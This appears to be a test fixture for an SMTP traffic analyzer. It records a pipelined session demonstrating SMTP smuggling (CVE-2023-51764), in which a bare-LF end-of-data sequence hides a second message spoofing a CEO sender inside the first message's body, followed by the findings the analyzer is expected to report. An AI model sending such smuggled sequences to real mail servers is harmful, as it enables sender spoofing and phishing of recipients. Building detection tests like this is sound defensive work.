# SMTP: a smuggled mail and a further one right behind the final dot, to a server that reads three: the client takes its replies for those of the second (CVE-2023-51764, RFC 2920 3.1)
without: loss one-sided snaplen

S: 220 mx.example.net
C: EHLO c
S: 250-mx
S: 250 PIPELINING
C: MAIL FROM:<a@example.org>
S: 250 OK
C: RCPT TO:<b@example.net>
S: 250 OK
C: DATA
S: 354 go on
C: Subject: harmless
C:
C: text\n.\r\n\
C: MAIL FROM:<ceo@example.net>
C: RCPT TO:<victim@example.net>
C: DATA
C: Subject: smuggled
C:
C: text
C: .
C: MAIL FROM:<c@example.org>
C: RCPT TO:<d@example.net>
C: DATA
S: 250 first queued
S: 250 smuggled sender OK
S: 250 smuggled recipient OK
S: 354 go on
S: 250 second queued
S: 250 sender OK
S: 250 recipient OK
S: 354 go on
C: Subject: another
C:
C: .
S: 250 third queued
C: QUIT
S: 221 Bye
---
finding rule.id=smtp.bare_lf
finding rule.id=smtp.smuggling finding.severity=critical confidence=confirmed mailwire.message_id=1
message subject=harmless envelope.reply_text="first queued"
message subject=another envelope.reply_text="third queued"
command seq=0
command verb=EHLO
command verb=MAIL
command verb=RCPT
command verb=DATA
command verb=. reply_text="first queued"
command verb=MAIL reply_text="smuggled sender OK"
command verb=RCPT reply_text="smuggled recipient OK"
command verb=DATA reply_code=354
command verb=- reply_text="second queued" note="to a command that the server read in the message"
command verb=- reply_text="sender OK" note="to a command that the server read in the message"
command verb=- reply_text="recipient OK" note="to a command that the server read in the message"
command verb=- reply_code=354 note="to a command that the server read in the message"
command verb=. reply_text="third queued"
command verb=QUIT reply_code=221
